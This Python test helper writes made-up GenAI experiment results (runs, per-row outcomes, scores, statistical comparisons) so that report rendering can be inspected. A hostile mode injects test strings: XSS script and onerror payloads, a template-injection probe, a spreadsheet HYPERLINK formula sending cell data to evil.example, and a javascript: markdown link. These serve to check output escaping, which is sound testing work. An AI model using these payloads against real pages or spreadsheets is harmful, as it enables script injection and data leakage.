"""Made-up experiments in the published file form, to draw reports from.

Nothing here is a result of a real application: the texts are assembled from word lists and the scores are drawn. Run it
to look at a report: `python -m tests.reports.sample DIR [--rows N] [--hostile]`.
"""

from __future__ import annotations

import json
from collections.abc import Mapping, Sequence
from dataclasses import dataclass, field
from pathlib import Path
from random import Random
from typing import Any

from genaiops.stats import compare_pairs, decide, estimate, winner

KINDS = ("Academic", "App", "Channel", "News", "Profile", "Shop")
LANGUAGES = ("English", "French", "German")
SUBJECTS = ["the library", "a weather service", "the football club", "a recipe archive", "the city museum"]
DEEDS = ["publishes daily notes", "sells tickets", "offers lessons", "collects stories", "answers questions"]
TAILS = ["for visitors of all ages", "with maps and photographs", "free of charge", "in four languages", "since 1987"]
NODES = ("fetch_text_from_url", "summarize_text_content", "classify_with_llm")

HOSTILE = (
    '</script><script>document.title="owned"</script><img src=x onerror=alert(1)>',
    '"><svg onload=alert(1)>{{7*7}}{% raw %}`id`',
    '=HYPERLINK("http://evil.example/?"&A1;"click")',
    "<!-- --> ]]> &lt;b&gt; \u202egnp.exe \x1b[31m \u2028 \ud83d \x00",
    "| cell | [link](javascript:alert(1)) @everyone #1 ![](http://evil.example/x.png)",
)


@dataclass
class Sample:
    """What to make up."""

    rows: int = 80
    variants: Sequence[str] = ("variant_0", "variant_1", "variant_2")
    datasets: Sequence[str] = ("web_classification_train", "web_classification_new")
    accuracy: Mapping[str, float] = field(
        default_factory=lambda: {"variant_0": 0.80, "variant_1": 0.88, "variant_2": 0.68}
    )
    cost: Mapping[str, float] = field(default_factory=lambda: {"variant_0": 1.0, "variant_1": 1.6, "variant_2": 0.45})
    failing: float = 0.03
    unscored: float = 0.01
    hostile: bool = False
    seed: int = 7
    source: str = "live"
    verdict: Mapping[str, Any] | None = None
    text_words: int = 12
    gibberish: bool = False
    evaluators: Sequence[str] = ("web_classification_flow", "summary_quality")


def write_sample(state: Path, sample: Sample | None = None) -> Path:
    """Write an experiment with its runs below a state folder; returns the experiment's folder."""
    return _Maker(state, sample or Sample()).write()


class _Maker:
    def __init__(self, state: Path, sample: Sample) -> None:
        self.state, self.sample, self.random = state, sample, Random(sample.seed)
        self.folder = state / "experiments" / "web_classification-20261120-101500-7f3a"
        self.row_scores: list[dict[str, Any]] = []
        self.values: dict[tuple[str, str, str], dict[str, list[float | None]]] = {}

    def write(self) -> Path:
        self.folder.mkdir(parents=True, exist_ok=True)
        runs = [self.run(dataset, variant) for dataset in self.sample.datasets for variant in self.sample.variants]
        scores = [self.score(run, evaluator) for run in runs for evaluator in self.sample.evaluators]
        comparisons = self.comparisons()
        calls, kept = sum(run["model_calls"] for run in runs), sum(run["kept"] for run in runs)
        result = {
            "schema_version": 1,
            "id": self.folder.name,
            "experiment": "web_classification",
            "env": "dev",
            "build_id": "2026.11.20-4",
            "stage": "dev",
            "created": "2026-11-20T10:15:00+00:00",
            "git": {"commit": "4be1f0c9d2a7e6b8", "branch": "shorter-summaries", "dirty": False},
            "plan": {"kind": "one-at-a-time", "cells": len(runs)},
            "runs": runs,
            "evaluations": [self.evaluation(run, evaluator) for run in runs for evaluator in self.sample.evaluators],
            "scores": scores,
            "row_scores": "row_scores.jsonl",
            "comparisons": comparisons,
            "regressions": self.regressions(),
            "verdict": {"result": "not judged", "reasons": []},
            "reports": [],
            "model_calls": calls,
            "kept": kept,
            "tokens": {side: sum(run["tokens"][side] for run in runs) for side in ("input", "output")},
            "cost_usd": sum(run["cost_usd"] for run in runs),
            "duration_s": max(run["duration_s"] for run in runs) * 1.3,
            "winners": self.winners(),
            "noise_floor": {
                "rows": 20,
                "repeats": 2,
                "flip_share": 0.05,
                "spread": 0.22,
                "floor": 0.069,
                "of_rows": 80,
            },
            "source": self.sample.source,
        }
        if self.sample.verdict:
            result["verdict"] = {key: self.sample.verdict[key] for key in ("result", "reasons")}
            (self.folder / "verdict.json").write_text(json.dumps(self.sample.verdict), encoding="utf-8")
        _write_lines(self.folder / "row_scores.jsonl", self.row_scores)
        (self.folder / "experiment.json").write_text(json.dumps(result), encoding="utf-8")
        return self.folder

    def sentence(self, random: Random, words: int) -> str:
        if self.sample.hostile and random.random() < 0.5:
            return random.choice(HOSTILE)
        if self.sample.gibberish:  # nothing that could be compressed beyond its alphabet
            return " ".join(f"{random.getrandbits(28):x}" for _ in range(words))
        return " ".join(
            f"{random.choice(SUBJECTS).capitalize()} {random.choice(DEEDS)} {random.choice(TAILS)}."
            for _ in range(max(1, words // 8))
        )

    def run(self, dataset: str, variant: str) -> dict[str, Any]:
        run = f"web_classification_summarize_text_content_{variant}_{dataset}_7f3a"
        path = self.state / "runs" / run
        path.mkdir(parents=True, exist_ok=True)
        outcomes = [self.outcome(dataset, variant, row) for row in range(self.sample.rows)]
        _write_lines(path / "outcomes.jsonl", outcomes)
        failed = sum(outcome["status"] == "failed" for outcome in outcomes)
        times = sorted(outcome["duration_s"] for outcome in outcomes)
        done = self.sample.rows - failed
        kept = 0 if variant == self.sample.variants[0] else self.sample.rows // 2
        return {
            "id": run,
            "path": str(path),
            "variant": {"summarize_text_content": variant},
            "variant_label": variant,
            "is_baseline": variant == self.sample.variants[0],
            "parameters": {},
            "dataset": dataset,
            "dataset_digest": dataset.encode().hex().ljust(64, "0")[:64],
            "rows": {"total": self.sample.rows, "completed": done, "failed": failed, "skipped": 0},
            "status": "completed",
            "model_calls": 2 * self.sample.rows - kept,
            "kept": kept,
            "tokens": {"input": 420 * self.sample.rows, "output": 60 * self.sample.rows},
            "cost_usd": round(self.sample.cost.get(variant, 1.0) * self.sample.rows * 0.0008, 4),
            "duration_s": sum(times) / 8,
            "latency_s": {"p50": times[len(times) // 2], "p95": times[int(len(times) * 0.95)]},
            "repeat": 0,
        }

    def outcome(self, dataset: str, variant: str, row: int) -> dict[str, Any]:
        shared = Random(f"{dataset}{row}{self.sample.seed}")  # the same page whatever the variant
        page, kind = self.sentence(shared, 4 * self.sample.text_words), shared.choice(KINDS)
        difficulty, language = shared.random(), shared.choice(LANGUAGES)
        own = Random(f"{dataset}{row}{variant}{self.sample.seed}")
        steady = own.random() < 0.6
        summary = self.sentence(shared if steady else own, self.sample.text_words)
        right = difficulty < self.sample.accuracy.get(variant, 0.8) + own.gauss(0, 0.04)
        category = kind if right else own.choice([other for other in KINDS if other != kind])
        inputs = {"url": f"https://pages.example/{dataset}/{row}.html", "language": language}
        duration = round(own.lognormvariate(0.1, 0.45), 3)
        if own.random() < self.sample.failing:
            return self.failure(row, inputs, page, duration, own)
        nodes = {
            "fetch_text_from_url": {**_node(page, 0.012, variant != "variant_0", 0, 0), "started_s": 0.0},
            "summarize_text_content": {**_node(summary, duration * 0.6, False, 320, 48), "started_s": 0.012},
            "classify_with_llm": _node(
                json.dumps({"category": category, "evidence": "Both"}), duration * 0.4, False, 100, 12
            ),
        }
        quality = round(min(1.0, max(0.0, own.gauss(0.8 if variant != "variant_2" else 0.72, 0.12))), 3)
        outputs = {"category": category, "evidence": "Both", "summary": summary}
        self.values.setdefault((dataset, variant, "truth"), {})[str(row)] = [float(right), quality]
        return {"row": row, "status": "completed", "inputs": inputs, "outputs": outputs, "error": None, "nodes": nodes,
                "duration_s": duration, "tokens": {"input": 420, "output": 60}}  # fmt: skip

    def failure(self, row: int, inputs: dict[str, Any], page: str, duration: float, own: Random) -> dict[str, Any]:
        kind, message = own.choice(
            [
                (
                    "WrappedOpenAIError",
                    "OpenAI API hits RateLimitError: requests of deployment 'gpt' exceed 30 per minute.",
                ),
                (
                    "ToolExecutionError",
                    f"Execution failure in 'classify_with_llm': (JSONDecodeError) line {own.randint(1, 9)}",
                ),
            ]
        )
        message = self.sentence(own, 3) if self.sample.hostile else message
        error = {"kind": kind, "type": "JSONDecodeError", "message": message, "node": "classify_with_llm"}
        nodes = {
            "fetch_text_from_url": _node(page, 0.01, False, 0, 0),
            "summarize_text_content": _node("A summary.", duration * 0.5, False, 320, 48),
            "classify_with_llm": {**_node(None, duration * 0.4, False, 100, 0), "status": "failed", "error": error},
        }
        return {"row": row, "status": "failed", "inputs": inputs, "outputs": {}, "error": error, "nodes": nodes,
                "duration_s": duration, "tokens": {"input": 420, "output": 48}}  # fmt: skip

    def score(self, run: Mapping[str, Any], evaluator: str) -> dict[str, Any]:
        dataset, variant = run["dataset"], run["variant_label"]
        truth = self.values.get((dataset, variant, "truth"), {})
        metric, place = ("accuracy", 0) if evaluator == "web_classification_flow" else ("quality", 1)
        values: dict[int, float] = {}
        failed = 0
        for row in range(self.sample.rows):
            found = truth.get(str(row))
            crashed = found is not None and Random(f"{evaluator}{run['id']}{row}").random() < self.sample.unscored
            failed += crashed
            error = {"kind": "ToolExecutionError", "message": "judge gave no number"} if crashed else None
            value = None if found is None or crashed else found[place]
            if value is not None:
                values[row] = value
            if found is not None:
                self.row_scores.append({"evaluator": evaluator, "run": run["id"], "dataset": dataset, "row": row,
                                        "scores": {metric: value}, "error": error})  # fmt: skip
        self.values[(dataset, variant, evaluator)] = values  # type: ignore[assignment]
        return {"evaluator": evaluator, "run": run["id"], "variant_label": variant, "dataset": dataset,
                "metrics": {metric: _form(list(values.values()), failed)},
                "segments": {"language": self.segments(dataset, metric, values)}}  # fmt: skip

    def segments(self, dataset: str, metric: str, values: Mapping[int, float]) -> dict[str, Any]:
        groups: dict[str, list[float]] = {}
        for row, value in values.items():
            shared = Random(f"{dataset}{row}{self.sample.seed}")
            self.sentence(shared, 4 * self.sample.text_words), shared.choice(KINDS), shared.random()
            groups.setdefault(shared.choice(LANGUAGES), []).append(value)
        return {name: {metric: _form(group, 0)} for name, group in sorted(groups.items())}

    def comparisons(self) -> list[dict[str, Any]]:
        found = []
        baseline = self.sample.variants[0]
        for dataset in self.sample.datasets:
            for evaluator in self.sample.evaluators:
                before: Any = self.values[(dataset, baseline, evaluator)]
                for candidate in self.sample.variants[1:]:
                    after: Any = self.values[(dataset, candidate, evaluator)]
                    rows = [row for row in before if row in after]
                    if rows:
                        result = compare_pairs([before[row] for row in rows], [after[row] for row in rows])
                        found.append((dataset, evaluator, candidate, result))
        decisions = decide([each[3] for each in found], [0.03] * len(found))
        return [
            {"metric": "accuracy" if evaluator == "web_classification_flow" else "quality", "evaluator": evaluator,
             "dataset": dataset, "baseline": baseline, "candidate": candidate, "difference": result.difference,
             "low": result.low, "high": result.high, "p_value": result.p_value, "p_adjusted": decision.p_adjusted,
             "test": result.test, "pairs": result.pairs, "margin": 0.03, "verdict": decision.verdict,
             "needed_rows": decision.needed_rows, "smallest_detectable": decision.smallest_detectable}
            for (dataset, evaluator, candidate, result), decision in zip(found, decisions, strict=True)
        ]  # fmt: skip

    def winners(self) -> list[dict[str, Any]]:
        found = []
        for dataset in self.sample.datasets:
            for evaluator in self.sample.evaluators:
                scores: dict[str, Any] = {
                    name: self.values[(dataset, name, evaluator)] for name in self.sample.variants
                }
                rows = [row for row in range(self.sample.rows) if all(row in each for each in scores.values())]
                if len(scores) > 1 and rows:
                    best = winner({name: [each[row] for row in rows] for name, each in scores.items()}, resamples=200)
                    metric = "accuracy" if evaluator == "web_classification_flow" else "quality"
                    what = {"evaluator": evaluator, "dataset": dataset, "metric": metric}
                    found.append({**what, **best._asdict(), "tied": list(best.tied)})
        return found

    def regressions(self) -> list[dict[str, Any]]:
        if len(self.sample.variants) < 3 or self.sample.rows < 40:
            return []
        by_node = [
            {"node": "summarize_text_content", "rows": [3, 7, 12, 19, 21, 30, 34, 36, 38], "count": 9},
            {"node": "classify_with_llm", "rows": [5, 11], "count": 2},
        ]
        dataset = self.sample.datasets[0]
        return [{"metric": "accuracy", "candidate": self.sample.variants[2], "dataset": dataset, "by_node": by_node}]

    def evaluation(self, run: Mapping[str, Any], evaluator: str) -> dict[str, Any]:
        path = self.state / "runs" / f"{run['id']}_{evaluator}"
        path.mkdir(parents=True, exist_ok=True)
        values: Any = self.values[(run["dataset"], run["variant_label"], evaluator)]
        lines = [
            {"row": row, "status": "completed", "inputs": {"groundtruth": "News", "prediction": "News"},
             "outputs": {"grade": "Correct" if value >= 0.5 else "Incorrect"}, "error": None, "nodes": {}}
            for row, value in values.items()
        ]  # fmt: skip
        _write_lines(path / "outcomes.jsonl", lines)
        return {"id": path.name, "path": str(path), "evaluator": evaluator, "run": run["id"], "dataset": run["dataset"],
                "rows": {"total": len(lines), "completed": len(lines), "failed": 0}, "status": "completed"}  # fmt: skip


def _node(output: Any, duration_s: float, kept: bool, tokens_in: int, tokens_out: int) -> dict[str, Any]:
    return {"status": "completed", "output": output, "duration_s": round(duration_s, 4), "kept": kept,
            "tokens": {"input": tokens_in, "output": tokens_out}}  # fmt: skip


def _form(values: Sequence[float], failed: int) -> dict[str, Any]:
    if not values:
        return {
            "value": None,
            "low": None,
            "high": None,
            "rows": 0,
            "failed": failed,
            "kind": "mean",
            "higher_is_better": True,
        }
    found = estimate(values)
    return {"value": found.value, "low": found.low, "high": found.high, "rows": found.rows, "failed": failed,
            "kind": found.kind, "higher_is_better": True}  # fmt: skip


def _write_lines(file: Path, lines: Sequence[Mapping[str, Any]]) -> None:
    # A lone surrogate cannot be written as UTF-8; JSON's escapes can carry it, as a careless program would.
    file.write_text("".join(json.dumps(line) + "\n" for line in lines), encoding="utf-8")


if __name__ == "__main__":
    import argparse

    from genaiops.gates import judge_experiment, read_policy, record_verdict
    from genaiops.reports import write_reports

    parser = argparse.ArgumentParser()
    parser.add_argument("folder", type=Path)
    parser.add_argument("--rows", type=int, default=80)
    parser.add_argument("--variants", type=int, default=3)
    parser.add_argument("--datasets", type=int, default=2)
    parser.add_argument("--words", type=int, default=12)
    parser.add_argument("--hostile", action="store_true")
    parser.add_argument("--no-gate", action="store_true")
    given = parser.parse_args()
    experiment = write_sample(
        given.folder / "state",
        Sample(
            rows=given.rows,
            hostile=given.hostile,
            variants=[f"variant_{n}" for n in range(given.variants)],
            datasets=["web_classification_train", "web_classification_new"][: given.datasets],
            text_words=given.words,
        ),
    )
    if not given.no_gate:
        demands = {"accuracy": {"min": 0.75, "max_drop": 0.03}, "quality": {"min": 0.7, "max_drop": 0.03}}
        record_verdict(experiment, judge_experiment(experiment, read_policy({"metrics": demands})))
    for path in write_reports(experiment, given.folder / "reports"):
        print(path)
